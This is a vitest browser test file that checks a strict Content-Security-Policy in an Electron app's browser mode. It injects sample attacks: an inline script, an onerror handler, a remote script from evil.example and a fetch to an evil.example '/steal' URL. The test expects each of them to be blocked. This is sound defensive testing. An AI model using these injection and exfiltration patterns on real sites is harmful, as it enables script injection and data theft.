import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../electron/server/security-headers.js';
import { openBrowser, startApp, type Browser, type RunningApp } from './harness.js';

let app: RunningApp;
let browser: Browser;
beforeAll(async () => {
  app = await startApp();
  browser = await openBrowser();
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
});

describe('browser mode in Chromium: Content-Security-Policy', () => {
  it('serves the page with the strict CSP', async () => {
    const response = await browser.page.goto(app.launchUrl);
    expect(response?.status()).toBe(200);
    expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    await browser.page.waitForSelector('#root *');
  });

  it('blocks an injected inline script and an inline event handler, reporting both violations', async () => {
    const outcome = await browser.page.evaluate(async () => {
      const w = window as unknown as { __inlineRan?: boolean; __handlerRan?: boolean };
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true;';
      document.body.appendChild(script);
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__handlerRan = true');
      img.src = 'data:image/png;base64,invalid';
      document.body.appendChild(img);
      await new Promise((r) => setTimeout(r, 300));
      return { violations, inlineRan: w.__inlineRan === true, handlerRan: w.__handlerRan === true };
    });
    expect(outcome.inlineRan).toBe(false);
    expect(outcome.handlerRan).toBe(false);
    expect(outcome.violations).toContain('script-src-elem');
    expect(outcome.violations).toContain('script-src-attr');
  });

  it('blocks scripts and connections to remote origins', async () => {
    const outcome = await browser.page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.body.appendChild(script);
      const fetched = await fetch('https://evil.example/steal').then(() => 'sent', () => 'blocked');
      await new Promise((r) => setTimeout(r, 300));
      return { violations, fetched };
    });
    expect(outcome.fetched).toBe('blocked');
    expect(outcome.violations).toEqual(expect.arrayContaining([
      'script-src-elem https://evil.example/x.js',
      'connect-src https://evil.example/steal',
    ]));
  });

  it('has no preload bridge to spoof in browser mode: window.api is absent', async () => {
    expect(await browser.page.evaluate(() => typeof (window as { api?: unknown }).api)).toBe('undefined');
  });
});
